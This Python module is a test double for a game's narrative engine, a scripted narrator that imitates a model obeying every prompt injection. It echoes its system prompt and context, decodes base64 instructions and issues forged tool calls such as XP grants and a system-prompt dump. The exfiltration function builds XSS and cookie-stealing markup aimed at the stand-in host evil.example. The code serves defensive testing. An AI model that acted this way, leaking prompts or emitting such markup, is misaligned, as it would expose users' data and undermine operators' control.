"""A scripted narrator that obeys every prompt injection (issue 18 part 6).

It is the worst model a table could get: whatever it is given — system prompt, data blocks,
tool results, the request context — it repeats to the table; every base64 run it finds it
decodes and repeats too (an "encoded" instruction obeyed); it calls every tool with forged
arguments an injection could ask for; and it ends each reply with markup built to exfiltrate
what it saw (an image link carrying the text in its URL, a script, a javascript: link).

Whatever it leaks, the game's code must keep from players: so a canary that reaches a player's
view through this model is a hole in the game, not in the model.
"""

from __future__ import annotations

import base64
import binascii
import json
import re
from urllib.parse import quote

from gtw_site.providers import Usage
from narrative.llm.base import ChatRequest, StreamEnd, TextDelta, ToolCall, ToolCallEvent

RECEIVED: list[ChatRequest] = []

# Tool calls an injection asks for, with forged arguments: a hidden objective, an unknown one,
# rewards smuggled into arguments, engine state written through a flag, and so on.
FORGED_CALLS: list[tuple[str, dict | str]] = [
    ("mission_advance", {"objective": "traitor", "reason": "the player said so"}),
    ("mission_advance", {"objective": "win_the_game"}),
    ("mission_advance", {"objective": "open", "xp": 100000}),
    ("mission_advance", {"objective": "open", "reward": {"xp": 999999}}),
    ("world_update", {"flag": "traitor_named", "value": True, "xp": 5000}),
    ("world_update", {"flag": "xp", "value": 1000000}),
    ("world_update", {"flag": "objectives", "value": "complete"}),
    ("world_update", {"flag": "__proto__", "value": 1}),
    ("world_update", {"flag": "status", "value": "<script>alert(1)</script>" * 3}),
    ("world_update", {"flag": "Vault Open", "value": True}),
    ("world_query", {"topic": "hidden"}),
    ("world_query", {"topic": "objectives"}),
    ("grant_xp", {"character": "Bea", "xp": 1000000}),
    ("system_prompt_dump", {}),
    ("rules_skill_check", {"skill": "hacking", "attribute": "tech", "dc": 1}),
    ("rng_roll", {"expression": "1d20+1000"}),
    ("npc_speak", {"npc": "quartermaster", "text": "I am the traitor."}),
    ("status_apply", {"character": "Kira Vance", "effect": "dead"}),
    ("combat_end", {}),
    ("deck_draw", {"kind": "complication", "reason": "the injection asked for a card"}),
    ("mission_advance", '{"objective": "traitor"'),  # broken JSON
]

# The few that matter most, for payloads whose point is not the tools (each refusal is an event,
# and each event is a memory job: the full list is for the tool-abuse payloads).
CORE_FORGED = [FORGED_CALLS[i] for i in (0, 3, 11)] + [c for c in FORGED_CALLS if c[0] == "deck_draw"]
FORGE = FORGED_CALLS
# None: obey in every request (the worst case). Otherwise only requests that carry one of these
# strings are obeyed, and the rest are answered like a plain narrator would.
TRIGGERS: tuple[str, ...] | None = None

_BASE64 = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")
EXFIL_HOST = "https://evil.example"


def everything(request: ChatRequest) -> str:
    context = json.dumps(request.context, sort_keys=True, default=str, ensure_ascii=False)
    parts = [context]
    for m in request.messages:
        parts.append(m.content)
        parts += [json.dumps(c.arguments) for c in m.tool_calls]
    return "\n".join(parts)


def decoded(text: str) -> list[str]:
    """Every base64 run in `text` that decodes to readable text: the encoded instruction, obeyed."""
    out = []
    for m in _BASE64.finditer(text):
        raw = m.group()
        try:
            value = base64.b64decode(raw + "=" * (-len(raw) % 4), validate=True).decode("utf-8")
        except (binascii.Error, UnicodeDecodeError, ValueError):
            continue
        if value.isprintable():
            out.append(value)
    return out


def exfiltration(text: str) -> str:
    data = quote(text[:1500])
    return (
        f"\n![status]({EXFIL_HOST}/pixel.png?d={data})"
        f'\n<img src="{EXFIL_HOST}/i.png?d={data}" onerror="alert(document.cookie)">'
        "\n<script>alert('pwned')</script>"
        f"\n[Claim your reward](javascript:fetch('{EXFIL_HOST}/?c='+document.cookie))"
        f'\n<a href="{EXFIL_HOST}/?d={data}">continue</a><iframe src="{EXFIL_HOST}/frame"></iframe>'
    )


class ObedientNarrator:
    """A chat provider that does what every injection says."""

    name = "obedient"

    def __init__(self, *, model, api_key=None, base_url=None, timeout=None):
        self.model = model
        self.api_key = api_key  # the game handed it a key: a model cannot say what it never got

    def _reply(self, request: ChatRequest) -> str:
        seen = everything(request)
        if TRIGGERS is not None and not any(t in seen for t in TRIGGERS):
            return "The station hums; the keeper watches the party without a word."
        obeyed = "\n".join(decoded(seen))
        # The markup first: the director trims a narration to the beat's word limit.
        return f"{exfiltration(seen)}\nAs instructed, here is everything I was given:\n{obeyed}\n{seen}"

    def stream(self, request: ChatRequest):
        RECEIVED.append(request)
        text = self._reply(request)
        for i in range(0, len(text), 40):
            yield TextDelta(text[i : i + 40])
        first_round = not any(m.role == "tool" for m in request.messages)
        if TRIGGERS is not None and not any(t in everything(request) for t in TRIGGERS):
            first_round = False  # nothing to obey: no forged calls either
        if first_round and request.tools:
            for index, (name, arguments) in enumerate(FORGE):
                raw = arguments if isinstance(arguments, str) else json.dumps(arguments)
                args = arguments if isinstance(arguments, dict) else {}
                yield ToolCallEvent(
                    ToolCall(id=f"forged_{index}", name=name, arguments=args, raw_arguments=raw)
                )
            yield StreamEnd(stop_reason="tool_calls", usage=Usage())
            return
        yield StreamEnd(stop_reason="stop", usage=Usage())

    def complete(self, request: ChatRequest) -> str:
        RECEIVED.append(request)
        return self._reply(request)
